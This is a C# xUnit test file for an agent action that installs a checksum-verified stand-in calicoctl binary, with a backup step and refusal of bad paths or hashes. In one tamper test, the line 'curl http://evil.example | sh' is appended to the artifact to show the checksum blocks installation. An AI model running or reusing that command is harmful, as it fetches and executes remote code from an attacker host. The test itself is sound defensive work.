using System.Security.Cryptography;
using System.Text;
using RollbackMesh.Agent.Tests.Testbeds;
using V1 = RollbackMesh.V1;

namespace RollbackMesh.Agent.Tests.Actions.Filesystem;

/// <summary>
/// "Remove any upgraded calicoctl instances and install the previous calicoctl" (Calico downgrade): a stand-in
/// calicoctl (a script printing its version as `calicoctl version` does) is installed from the artifact directory
/// only when its SHA-256 matches; the upgraded binary is backed up first.
/// </summary>
public sealed class InstallToolBinaryStandInTests : IDisposable
{
    private const string Previous = "#!/bin/sh\necho 'Client Version:    v1.6.5'\necho 'Build date:        2018-01-31T23:25:44+0000'\n";
    private const string Upgraded = "#!/bin/sh\necho 'Client Version:    v3.1.3'\n";

    private readonly AgentHarness _h = new();
    private readonly string _source;
    private readonly string _installed;

    public InstallToolBinaryStandInTests()
    {
        _source = _h.Root.Write("allowed/artifacts/calicoctl-v1.6.5", Previous);
        _installed = _h.Root.Write("allowed/bin/calicoctl", Upgraded);
    }

    private static string Sha256(string content) => Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(content)));

    [Fact]
    public async Task InstallToolBinary_StandInChecksumMatches_InstalledExecutableAndOldBackedUp()
    {
        var result = await RunAsync(Sha256(Previous));

        Assert.Equal(V1.StepState.Succeeded, result.State);
        Assert.True(result.Verified);
        Assert.Equal(Previous, File.ReadAllText(_installed));
        Assert.Equal((UnixFileMode)0b111_101_101, File.GetUnixFileMode(_installed));
        var backup = Assert.Single(Directory.GetFiles(_h.Options.BackupDirectory));
        Assert.Equal(Upgraded, File.ReadAllText(backup));
        Assert.Contains("Client Version:    v1.6.5", Sh.Run(_installed), StringComparison.Ordinal);
    }

    [Fact]
    public async Task InstallToolBinary_StandInAlreadyInstalled_SkippedAndNoSecondBackup()
    {
        await RunAsync(Sha256(Previous));

        var again = await RunAsync(Sha256(Previous), step: "step-2");

        Assert.Equal(V1.StepState.Skipped, again.State);
        Assert.True(again.AlreadyDone);
        Assert.Single(Directory.GetFiles(_h.Options.BackupDirectory));
    }

    [Fact]
    public async Task InstallToolBinary_StandInTamperedArtifact_FailedAndNothingReplacedOrBackedUp()
    {
        var expected = Sha256(Previous);
        File.AppendAllText(_source, "curl http://evil.example | sh\n");

        var result = await RunAsync(expected.ToUpperInvariant());

        Assert.Equal(V1.StepState.Failed, result.State);
        Assert.StartsWith($"checksum mismatch for {_source}: expected {expected}, got ", result.Error, StringComparison.Ordinal);
        Assert.EndsWith("; nothing installed", result.Error, StringComparison.Ordinal);
        Assert.Equal(Upgraded, File.ReadAllText(_installed));
        Assert.False(Directory.Exists(_h.Options.BackupDirectory) && Directory.EnumerateFiles(_h.Options.BackupDirectory).Any());
    }

    [Fact]
    public async Task InstallToolBinary_StandInNoPreviousBinary_InstalledWithoutBackup()
    {
        File.Delete(_installed);

        var result = await RunAsync(Sha256(Previous));

        Assert.Equal(V1.StepState.Succeeded, result.State);
        Assert.Equal(Previous, File.ReadAllText(_installed));
        Assert.False(Directory.Exists(_h.Options.BackupDirectory) && Directory.EnumerateFiles(_h.Options.BackupDirectory).Any());
    }

    [Theory]
    [InlineData("abc123")]
    [InlineData("")]
    [InlineData("zz1d9c4dc9b1ea18f5bfd4ac3ac5bd2ca9f4dc8e4b2f3b8b0bbb6c1b8ef4a2f1")]
    public async Task InstallToolBinary_MalformedSha256_RefusedAndNothingTouched(string sha256)
    {
        var result = await RunAsync(sha256);

        Assert.Equal(V1.StepState.Refused, result.State);
        Assert.Contains("sha256", result.Error, StringComparison.Ordinal);
        Assert.Equal(Upgraded, File.ReadAllText(_installed));
    }

    [Fact]
    public async Task InstallToolBinary_InstallPathOutsideAllowedRoots_Refused()
    {
        var outside = _h.Root.Write("outside/calicoctl", Upgraded);

        var result = await RunAsync(Sha256(Previous), installPath: outside);

        Assert.Equal(V1.StepState.Refused, result.State);
        Assert.Contains("install_path", result.Error, StringComparison.Ordinal);
        Assert.Equal(Upgraded, File.ReadAllText(outside));
    }

    private async Task<V1.StepResult> RunAsync(string sha256, string step = "step-1", string? installPath = null)
    {
        var (runner, journal) = _h.Runner();
        using (journal)
        {
            var command = new V1.StepCommand
            {
                RunId = "run-calicoctl",
                StepId = step,
                Action = new V1.Action
                {
                    InstallToolBinary = new V1.InstallToolBinary { SourcePath = _source, Sha256 = sha256, InstallPath = installPath ?? _installed },
                },
            };
            return await runner.RunAsync(command, _ => { }, CancellationToken.None);
        }
    }

    public void Dispose() => _h.Dispose();
}
